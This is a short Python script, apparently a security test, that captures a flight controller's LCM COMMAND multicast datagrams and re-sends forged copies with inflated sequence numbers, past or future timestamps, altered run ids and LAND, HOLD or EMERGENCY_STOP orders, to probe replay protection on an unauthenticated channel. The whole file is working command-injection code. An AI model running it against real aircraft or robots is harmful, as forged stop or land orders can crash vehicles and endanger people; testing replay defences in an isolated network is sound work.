#!/usr/bin/env python3
"""forge_commands.py SECONDS: attacks a flight's COMMAND channel without a key.

Receives the operator's own datagrams and sends them again: with a huge sequence number, with a
stamp of yesterday or of tomorrow, as an order to land or stop, under the operator's run id and another
one. Orders with a current stamp are left out: without authentication they cannot be
distinguished from the operator's. To be run in its own network.
"""

import struct
import sys
import time

from lcm_socket import GROUP, MAGIC_SHORT, PORT, receiver_and_sender

DAY_US = 86_400_000_000
LAND, EMERGENCY_STOP, HOLD = 5, 6, 4

receiver, sender = receiver_and_sender()

end = time.monotonic() + float(sys.argv[1])
ours = set()
sent = 0
while time.monotonic() < end:
    packet = receiver.recv(65536)
    magic, _ = struct.unpack(">II", packet[:8])
    name, _, payload = packet[8:].partition(b"\0")
    if magic != MAGIC_SHORT or name != b"COMMAND" or packet in ours:
        continue
    stamp, run, sequence, action = struct.unpack(">qqqi", payload[8:36])
    robot = payload[36:]
    forged = [(stamp, run, 2**62, 0), (stamp + 3650 * DAY_US, run, 2**62, 0)]  # heartbeats
    for when in (stamp - DAY_US, stamp - 5_000_000, stamp + DAY_US):
        for order in (LAND, HOLD, EMERGENCY_STOP):
            forged += [(when, run, sequence + 1, order), (when, run, 2**62, order),
                       (when, run ^ 0x5555, 1, order)]
    for utime, run_id, number, order in forged:
        out = (struct.pack(">II", MAGIC_SHORT, sent) + name + b"\0" + payload[:8] +
               struct.pack(">qqqi", utime, run_id, number, order) + robot)
        ours.add(out)
        sender.sendto(out, (GROUP, PORT))
        sent += 1
print(sent, "forged")
sys.exit(0 if sent else 1)
